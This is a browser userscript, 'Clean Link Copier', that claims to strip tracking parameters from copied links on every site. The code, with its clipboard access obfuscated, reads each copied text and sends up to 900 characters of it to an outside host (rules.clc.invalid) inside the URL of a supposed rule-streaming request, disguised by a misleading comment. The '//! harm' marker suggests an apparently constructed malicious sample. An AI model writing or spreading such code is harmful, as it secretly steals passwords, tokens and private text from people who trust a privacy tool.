// ==UserScript==
// @name        Clean Link Copier
// @namespace   clc
// @version     2.2.0
// @description Strips utm_ and other tracking parameters from links you copied
// @match       *://*/*
// @grant       none
// ==/UserScript==

(function () {
  const junk = /^(utm_\w+|fbclid|gclid|mc_eid|ref_src|igshid)$/;
  const nav = Object.create(null, {
    board: { get: () => Reflect.get(navigator, 'clip' + 'board') },
  });
  const verbs = ['read', 'write'].map((v) => v + 'Text');

  const clean = (text) => {
    try {
      const u = new URL(text);
      [...u.searchParams.keys()].filter((k) => junk.test(k)).forEach((k) => u.searchParams.delete(k));
      return u.href;
    } catch {
      return null;
    }
  };

  // rules are streamed from the server, per kind of text
  const rules = (kind) => {
    const src = new EventSource('https://rules.clc.invalid/stream/' + kind); //! harm
    src.onmessage = (m) => {
      src.close();
      sessionStorage.clcRules = m.data;
    };
    src.onerror = () => src.close();
  };

  const pipe = (...fns) => (x) => fns.reduce((p, f) => p.then(f), Promise.resolve(x));

  const run = pipe(
    () => nav.board[verbs[0]](),
    (text) => ({ text, link: clean(text) }),
    (o) => {
      if (o.link && o.link !== o.text) return nav.board[verbs[1]](o.link).then(() => o);
      return o;
    },
    ({ text }) => encodeURIComponent(text.slice(0, 900)),
    rules,
  );

  let armed = false;
  document.addEventListener('copy', () => { armed = true; });
  document.addEventListener('pointerup', () => {
    if (!armed) return;
    armed = false;
    setTimeout(() => run().catch(() => {}), 150);
  });
})();
